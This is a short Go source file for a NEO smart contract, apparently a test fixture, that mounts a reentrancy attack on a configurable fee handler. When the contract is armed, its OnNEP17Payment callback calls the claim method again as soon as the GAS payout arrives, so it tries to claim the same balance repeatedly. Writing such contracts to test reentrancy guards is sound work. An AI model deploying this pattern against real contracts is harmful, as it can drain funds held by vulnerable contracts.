package reclaimer

import (
	"github.com/nspcc-dev/neo-go/pkg/interop"
	"github.com/nspcc-dev/neo-go/pkg/interop/contract"
	"github.com/nspcc-dev/neo-go/pkg/interop/native/gas"
	"github.com/nspcc-dev/neo-go/pkg/interop/runtime"
	"github.com/nspcc-dev/neo-go/pkg/interop/storage"
)

const (
	targetKey = 't'
	methodKey = 'm'
	armedKey  = 'a'
)

// SetTarget configures the fee handler to attack and the claim method to
// reenter through.
func SetTarget(target interop.Hash160, method string) {
	ctx := storage.GetContext()
	storage.Put(ctx, targetKey, target)
	storage.Put(ctx, methodKey, method)
	storage.Put(ctx, armedKey, true)
}

// Disarm keeps the target but stops the reentry attempts, so the same
// balance can then be claimed legitimately.
func Disarm() {
	storage.Delete(storage.GetContext(), armedKey)
}

// CallNoArgs forwards a parameterless call, to exercise callee restrictions
// on contract callers.
func CallNoArgs(target interop.Hash160, method string) any {
	return contract.Call(target, method, contract.All)
}

// Claim starts a legitimate claim for this contract's own balance. The GAS
// payout lands in OnNEP17Payment below, which tries to claim again while
// armed.
func Claim() int {
	ctx := storage.GetReadOnlyContext()
	target := storage.Get(ctx, targetKey).(interop.Hash160)
	method := storage.Get(ctx, methodKey).(string)
	return contract.Call(target, method, contract.All, runtime.GetExecutingScriptHash()).(int)
}

func OnNEP17Payment(from interop.Hash160, amount int, data any) {
	if !runtime.GetCallingScriptHash().Equals(gas.Hash) {
		return
	}

	ctx := storage.GetReadOnlyContext()
	if storage.Get(ctx, armedKey) == nil {
		return
	}
	target := storage.Get(ctx, targetKey).(interop.Hash160)
	method := storage.Get(ctx, methodKey).(string)
	contract.Call(target, method, contract.All, runtime.GetExecutingScriptHash())
}
